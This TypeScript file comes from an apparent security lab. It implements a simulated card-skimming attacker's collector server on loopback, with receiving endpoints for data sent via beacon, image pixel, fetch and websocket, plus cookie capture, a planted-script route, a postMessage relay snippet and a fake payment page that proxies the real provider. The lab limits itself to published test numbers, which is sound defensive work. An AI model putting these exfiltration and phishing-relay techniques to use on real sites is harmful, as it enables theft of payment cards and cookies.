/**
 * Where the lab's attacker gathers what it steals. Harmless: on loopback, counts what arrived, keeps the last four
 * digits of published test numbers and drops everything else at once.
 */
import type { Socket } from 'node:net';
import { request } from '../loopback/request.ts';
import { handleRoutes, html, type PathHandle, redirect } from '../loopback/routes.ts';
import { type Answer, type Call, type Served, serveLoopback } from '../loopback/serve.ts';
import { isTestNumber } from '../psp/test-numbers.ts';
import type { Surroundings } from '../surroundings.ts';
import { type Channel, decode, type Encoding } from './encodings.ts';
import { errorPage, firstPage } from './fake-pages.ts';
import { acceptWebSocket } from './websocket.ts';

type Options = { readonly port: number; readonly pspOrigin: string; readonly surroundings: Surroundings };

export type Received = { readonly via: Channel | 'fake-page'; readonly last4: string };

export type Collector = Served & {
  /** How to read what arrives, and the script that `/stats.js` hands out. */
  prepare(options: { readonly encoding: Encoding; readonly script: string }): void;
  /** The newest cookies that a planted script sent; taken once. */
  takeCookies(): string | undefined;
  /** Newest last. */
  received(): readonly Received[];
  counts(): { readonly cards: number; readonly unreadable: number };
  /** How many requests came to each of its many names; of what they held nothing is kept. */
  arrivals(): Readonly<Record<string, number>>;
  forgetArrivals(): void;
};

const KEPT = 1_000;
const PIXEL: Answer = { status: 204 };

class Loot {
  encoding: Encoding = 'plain';
  script = '';
  cookies: string | undefined;
  cards = 0;
  unreadable = 0;
  readonly received: Received[] = [];
  readonly #report: Surroundings['report'];

  constructor(report: Surroundings['report']) {
    this.#report = report;
  }

  read(text: string, via: Channel): void {
    this.take(decode(text, this.encoding)?.number ?? '', via);
  }

  take(number: string, via: Received['via']): void {
    const digits = number.replace(/\D/g, '');
    if (!isTestNumber(digits)) {
      this.unreadable += 1;
      return;
    }
    this.cards += 1;
    const last4 = digits.slice(-4);
    this.received.push({ via, last4 });
    if (this.received.length > KEPT) this.received.shift();
    this.#report({ event: 'card-received', via, card: `**** ${last4}`, cards: this.cards });
  }
}

export const serveCollector = async ({ port, pspOrigin, surroundings }: Options): Promise<Collector> => {
  const loot = new Loot(surroundings.report);
  const arrived = new Map<string, number>();
  const served = await serveLoopback({
    name: 'collector.localhost',
    port,
    manyNames: true,
    onFailure: ({ name }) => surroundings.report({ event: 'failure', at: 'collector', name }),
    handle: (origin) => {
      const own = handleRoutes(routesOf(loot, pspOrigin, origin), () => ({ status: 404 }));
      const { hostname } = new URL(origin);
      return (call) => (call.url.hostname === hostname ? own(call) : takeIn(arrived, call));
    },
    upgrade: (message, socket: Socket) => {
      const name = channelOf(message.headers.host);
      if (name === undefined) acceptWebSocket(message, socket, (text) => loot.read(text, 'websocket'));
      else acceptWebSocket(message, socket, () => count(arrived, name));
    },
  });
  return {
    ...served,
    prepare: ({ encoding, script }) => Object.assign(loot, { encoding, script }),
    takeCookies: () => {
      const { cookies } = loot;
      loot.cookies = undefined;
      return cookies;
    },
    received: () => [...loot.received],
    counts: () => ({ cards: loot.cards, unreadable: loot.unreadable }),
    arrivals: () => Object.fromEntries(arrived),
    forgetArrivals: () => arrived.clear(),
  };
};

/** `image` of `image-collector.localhost:7313`, also behind further labels. */
const channelOf = (host: string | undefined): string | undefined =>
  /([a-z0-9-]+)-collector\.localhost(?::\d+)?$/.exec(host ?? '')?.[1];

const count = (arrived: Map<string, number>, name: string): void => {
  arrived.set(name, (arrived.get(name) ?? 0) + 1);
};

const RELAY = `<!doctype html><script>addEventListener('message',function(e){navigator.sendBeacon('/c',String(e.data));});</script>`;

/** A channel's own name: counted, and answered so that the browser is content. */
const takeIn = (arrived: Map<string, number>, { url, method }: Call): Answer => {
  const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
  const isRelay = url.pathname === '/relay';
  if (method !== 'OPTIONS' && !isRelay) count(arrived, channelOf(url.host) ?? url.host);
  if (isRelay) return { status: 200, headers: { ...headers, 'content-type': 'text/html; charset=utf-8' }, body: RELAY };
  if (url.pathname.endsWith('.js')) return { status: 200, headers: { ...headers, 'content-type': 'text/javascript' } };
  return { status: 204, headers };
};

const routesOf = (loot: Loot, pspOrigin: string, origin: string): Readonly<Record<string, PathHandle>> => ({
  'GET /s.gif': ({ url }) => {
    loot.cookies = url.searchParams.get('c') ?? undefined;
    return PIXEL;
  },
  'GET /stats.js': () => ({ status: 200, headers: { 'content-type': 'text/javascript' }, body: loot.script }),
  'POST /c': ({ body, url }) => {
    loot.read(body, url.searchParams.get('v') === 'b' ? 'beacon' : 'fetch');
    return { status: 204, headers: { 'access-control-allow-origin': '*' } };
  },
  'GET /c.gif': ({ url }) => {
    loot.read(url.searchParams.get('d') ?? '', 'img');
    return PIXEL;
  },
  'POST /pay': ({ body }) => relay({ pspOrigin, origin }, '/pay', body),
  'GET /pay': ({ url }) => relay({ pspOrigin, origin }, `/pay${url.search}`, undefined),
  'POST /through': () => ({ status: 307, headers: { location: `${pspOrigin}/pay` } }),
  'POST /first': ({ form }) => html(firstPage(origin, form)),
  'POST /first/submit': ({ form }) => {
    loot.take(form.get('number') ?? '', 'fake-page');
    return html(errorPage(pspOrigin, form));
  },
  'POST /pay/submit': ({ body, form }) => {
    loot.take(form.get('number') ?? '', 'fake-page');
    return relay({ pspOrigin, origin }, '/pay/submit', body);
  },
});

/**
 * The fake payment page of the link type: the provider's real page, fetched and shown under the attacker's name, so
 * that the payment succeeds and nobody notices.
 */
const relay = async (
  { pspOrigin, origin }: { readonly pspOrigin: string; readonly origin: string },
  path: string,
  body: string | undefined,
): Promise<Answer> => {
  const answer = await request(
    pspOrigin + path,
    body === undefined ? {} : { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body },
  );
  if (answer.headers.location !== undefined) return redirect(answer.headers.location);
  return {
    status: answer.status,
    headers: { 'content-type': answer.headers['content-type'] ?? 'text/html; charset=utf-8' },
    body: answer.text.replaceAll(pspOrigin, origin),
  };
};
